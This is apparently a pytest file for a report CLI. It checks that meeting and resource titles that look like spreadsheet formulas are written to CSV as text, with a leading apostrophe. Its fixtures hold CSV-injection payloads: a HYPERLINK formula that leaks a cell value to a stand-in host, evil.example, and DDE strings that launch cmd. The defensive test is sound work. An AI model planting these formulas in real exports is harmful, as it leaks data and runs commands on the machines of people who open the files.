"""`peerbot report`: titles people typed that look like spreadsheet formulas stay text in the report's CSVs."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlalchemy import select

from bot.cli import main
from storage.db import SessionFactory
from storage.models import Meeting, Resource
from tests.support.factories.report import HOME, evaluation_network

MEETING_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Agenda")'
RESOURCE_TITLES = ("@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C notepad'!A0", "-2+3", "Plain guide")


def test_report_csvs_keep_formula_looking_titles_as_text(
    session_factory: SessionFactory, monkeypatch: pytest.MonkeyPatch, database_url: str, tmp_path: Path
) -> None:
    with session_factory.begin() as session:
        evaluation_network(session)
        for meeting in session.scalars(select(Meeting)):
            meeting.title = MEETING_TITLE
        resources = session.scalars(select(Resource).order_by(Resource.id))
        for resource, title in zip(resources, RESOURCE_TITLES, strict=True):
            resource.title = title
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "report"
    assert main(["report", "--network", HOME, "--from", "2024-01-01", "--to", "2025-12-31", "--out", str(out)]) == 0

    with open(out / "attendance_per_meeting.csv", newline="", encoding="utf-8") as handle:
        meetings = {row["meeting"] for row in csv.DictReader(handle)}
    assert meetings == {"'" + MEETING_TITLE}
    with open(out / "most_helpful_resources.csv", newline="", encoding="utf-8") as handle:
        helpful = [(row["title"], row["helpful"]) for row in csv.DictReader(handle)]
    assert helpful, "the report lists the most helpful resources"
    for title, votes in helpful:
        assert not title.startswith(("=", "+", "-", "@")), title
        assert title.lstrip("'") in RESOURCE_TITLES
        assert votes.isdigit()  # counts stay numbers
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [title for title, _ in helpful]
